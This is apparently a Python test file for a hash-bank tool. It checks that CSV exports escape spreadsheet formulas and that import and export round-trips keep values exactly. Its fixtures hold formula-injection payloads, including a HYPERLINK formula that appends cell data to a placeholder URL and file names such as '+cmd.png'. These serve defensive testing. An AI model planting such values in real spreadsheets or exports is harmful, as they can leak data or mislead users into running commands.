"""CSV injection: file names, labels and external ids that a spreadsheet would run as formulas come out
of every CSV we write as text (a leading apostrophe), and a hash list exported and imported again keeps
its values exactly."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from childshield.accounts.service import create_api_key, create_user
from childshield.banks import create_bank
from childshield.banks.entries import add_outcomes, export_rows
from childshield.banks.formats import parse_csv
from childshield.csvcells import neutral, restore
from childshield.hashing.result import HashOutcome
from childshield.hashing.service import hash_bytes
from childshield.store.db import Database
from childshield.store.models import Role
from childshield.testing.corpus import encode, generated_photo
from childshield.web.app import create_app
from childshield.web.settings import ServiceSettings

FORMULAS = ["=HYPERLINK(A1).png", "@SUM(A1).png", "+cmd.png"]
EXTERNAL_ID = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
LABELS = ["@SUM(1)", "-2+3", "+cmd", "'=quoted", "plain"]
MD5 = "0123456789abcdef0123456789abcdef"


def run(*args: str, cwd: Path | None = None, db: Database | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **({"CHILDSHIELD_DATABASE_URL": db.url} if db else {})}
    command = [sys.executable, "-m", "childshield.cli", *args]
    return subprocess.run(command, capture_output=True, text=True, cwd=cwd, env=env, timeout=120)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert(text: str) -> None:
    """No cell of the CSV would be taken for a formula by a spreadsheet."""
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab;,\"\n"), max_size=12) | st.text(max_size=30))
def test_the_escape_is_inert_and_undone_exactly(value: str) -> None:
    escaped = neutral(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(escaped) == value
    assert neutral(-3) == -3  # numbers stay numbers


def test_file_names_in_hash_and_scan_csv_are_neutralised(db: Database, tmp_path: Path) -> None:
    for k, name in enumerate(FORMULAS):
        (tmp_path / name).write_bytes(encode(generated_photo(700 + k, 200, 150), "PNG"))
    hashed = run("hash", *FORMULAS, "--format", "csv", cwd=tmp_path)
    assert hashed.returncode == 0, hashed.stderr
    assert [r["path"] for r in csv.DictReader(io.StringIO(hashed.stdout))] == [f"'{n}" for n in FORMULAS]
    assert_inert(hashed.stdout)

    create_bank(db, "known")  # the known copies carry the hostile names as their source names
    known = [HashOutcome(n, result=hash_bytes((tmp_path / n).read_bytes())) for n in FORMULAS]
    add_outcomes(db, "known", known)
    scanned = run("scan", *FORMULAS, "--format", "csv", cwd=tmp_path, db=db)
    assert scanned.returncode == 3, scanned.stderr  # matched
    rows = list(csv.DictReader(io.StringIO(scanned.stdout)))
    assert {r["path"] for r in rows} == {f"'{n}" for n in FORMULAS}
    assert {restore(r["source_name"]) for r in rows} == set(FORMULAS)
    assert_inert(scanned.stdout)


def test_bank_export_is_neutralised_and_round_trips(db: Database, tmp_path: Path) -> None:
    listing = io.StringIO()
    csv.writer(listing, lineterminator="\n").writerow(["md5", MD5, EXTERNAL_ID, ";".join(LABELS)])
    (tmp_path / "list.csv").write_text(listing.getvalue())  # as a partner would send it: unescaped
    assert run("bank", "create", "first", db=db).returncode == 0
    imported = run("bank", "import", "first", str(tmp_path / "list.csv"), db=db)
    assert imported.returncode == 0, imported.stderr
    (original,) = export_rows(db, "first")
    assert (original["external_id"], original["labels"]) == (EXTERNAL_ID, LABELS)

    exported = run("bank", "export", "first", "--format", "csv", db=db)
    assert exported.returncode == 0, exported.stderr
    assert cells(exported.stdout)[1][2] == "'" + EXTERNAL_ID
    assert_inert(exported.stdout)
    (tmp_path / "again.csv").write_text(exported.stdout)
    assert run("bank", "create", "second", db=db).returncode == 0
    assert run("bank", "import", "second", str(tmp_path / "again.csv"), db=db).returncode == 0
    (copy,) = export_rows(db, "second")
    assert (copy["signal"], copy["external_id"], copy["labels"]) == (MD5, EXTERNAL_ID, LABELS)

    create_user(db, "boss", Role.ADMIN, password="a long admin passphrase")
    key = {"Authorization": f"Bearer {create_api_key(db, 'boss')}"}
    with TestClient(create_app(ServiceSettings(database_url=db.url, refresh_seconds=0))) as client:
        got = client.get("/v1/banks/first/export", params={"format": "csv"}, headers=key)
    assert got.status_code == 200 and got.text == exported.stdout
    (row,) = parse_csv(io.StringIO(got.text)).rows
    assert (row.external_id, list(row.labels)) == (EXTERNAL_ID, LABELS)
